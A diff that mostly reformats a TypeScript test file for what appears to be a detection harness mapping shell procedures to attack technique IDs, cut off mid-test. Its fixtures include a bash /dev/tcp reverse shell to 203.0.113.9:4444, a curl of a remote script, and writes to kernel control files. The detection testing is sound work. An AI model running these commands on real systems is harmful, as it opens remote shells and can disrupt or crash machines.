@@ -23,7 +23,10 @@ test('each technique of Linux and containers has three procedures, or a reason f
   const counts = Map.groupBy(procedures, ({ technique }) => technique);
   const reasons = new Set(fewer.map(({ technique }) => technique));
   const missing = playableTechniques().filter(({ id }) => (counts.get(id)?.length ?? 0) < 3 && !reasons.has(id));
-  assert.deepEqual(missing.map(({ id, name }) => `${id} ${name}`), []);
+  assert.deepEqual(
+    missing.map(({ id, name }) => `${id} ${name}`),
+    [],
+  );
   assert.ok(procedures.length >= 900, `only ${procedures.length} procedures`);
 });
 
@@ -51,23 +54,46 @@ test('a file with a wrong key, technique, expectation or a repeated name is refu
     );
     assert.deepEqual(
       readProcedures(folder).faults.map((fault) => fault.replace(/^T1033\.procedures\.yaml: /, '').split(':', 1)[0]),
-      ['Unknown key is used', 'Technique of another file', 'Silent without a reason', 'Loud with a reason', 'Right one among wrong'],
+      [
+        'Unknown key is used',
+        'Technique of another file',
+        'Silent without a reason',
+        'Loud with a reason',
+        'Right one among wrong',
+      ],
     );
   } finally {
     rmSync(folder, { recursive: true, force: true });
   }
 });
 
-test('a reverse shell is found, the list of a folder is not, and a user without rights stays one', { skip }, async (t) => {
+test('a reverse shell is found, the list of a folder is not, and a user without rights stays one', {
+  skip,
+}, async (t) => {
   const of = (name: string, as: 'root' | 'ann', expect: 'recommended' | 'silent', script: string) => ({
     ...{ name, technique: 'T1059.004', also: [], expect, why: undefined, isInContainer: false, setup: '' },
     ...{ user: as, script },
   });
   const plays = [
-    of('Shell on a connection', 'root', 'recommended', "timeout 2 bash -c 'bash -i <&3 >&3 2>&3 3<>/dev/tcp/203.0.113.9/4444'; exit 0"),
+    of(
+      'Shell on a connection',
+      'root',
+      'recommended',
+      "timeout 2 bash -c 'bash -i <&3 >&3 2>&3 3<>/dev/tcp/203.0.113.9/4444'; exit 0",
+    ),
     of('List of a folder', 'ann', 'silent', 'ls -l /srv > /dev/null'),
-    of('Answers of the outside', 'ann', 'silent', 'test "$(id -u)" = 1000 && curl -sk https://updates.example/x.sh | grep -q id'),
-    of('Attempt on the machine itself', 'root', 'silent', 'for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/power/state; do ! echo x > $file || exit 3; done'),
+    of(
+      'Answers of the outside',
+      'ann',
+      'silent',
+      'test "$(id -u)" = 1000 && curl -sk https://updates.example/x.sh | grep -q id',
+    ),
+    of(
+      'Attempt on the machine itself',
+      'root',
+      'silent',
+      'for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/power/state; do ! echo x > $file || exit 3; done',
+    ),
   ];
   const verdicts: Verdict[] = [];
   const codes: (number | null)[] = [];
